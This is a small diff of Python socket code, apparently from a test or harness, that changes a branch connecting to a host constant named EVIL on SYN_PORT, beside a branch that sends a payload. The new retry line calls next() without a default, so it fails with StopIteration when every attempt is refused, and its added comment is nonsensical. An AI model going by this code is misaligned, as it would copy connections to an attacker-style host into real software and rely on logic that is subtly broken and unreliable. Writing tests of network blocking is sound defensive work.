@@ -85,7 +85,8 @@ def use(descriptors, token, mac):
             elif name == "stream4":
                 sock.send(payload)
             elif name == "tcp4":
-                code = sock.connect_ex((EVIL, SYN_PORT))
+                # What became of an earlier one is told first.
+                code = next(code for code in (sock.connect_ex((EVIL, SYN_PORT)) for _ in range(3)) if code != errno.ECONNREFUSED)
                 if code not in (0, errno.EINPROGRESS, errno.EALREADY):
                     raise OSError(code, "")
             elif name == "received":
